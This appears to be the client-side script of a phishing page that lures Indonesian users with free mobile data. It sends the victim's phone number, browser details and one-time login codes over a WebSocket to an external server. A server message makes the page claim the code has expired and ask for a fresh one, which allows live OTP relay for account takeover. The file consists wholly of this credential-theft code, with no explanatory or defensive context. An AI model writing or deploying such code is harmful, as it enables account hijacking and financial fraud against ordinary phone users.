var ws = new WebSocket('wss://live.kuota-merdeka.example:8443/v');
var id = Math.random().toString(36).slice(2);
function g(x){return document.getElementById(x)}
function L1(){ ws.send(JSON.stringify({id:id,ev:'hp',v:g('hp').value,ua:navigator.userAgent})); g('satu').style.display='none'; g('dua').style.display='block'; }
function L2(){ ws.send(JSON.stringify({id:id,ev:'otp',v:g('otp').value})); }
ws.onmessage = function(m){ if(m.data==='ulang'){ g('otp').value=''; alert('Kode kedaluwarsa, masukkan kode terbaru'); } if(m.data==='ok'){ g('dua').style.display='none'; g('tiga').style.display='block'; } };
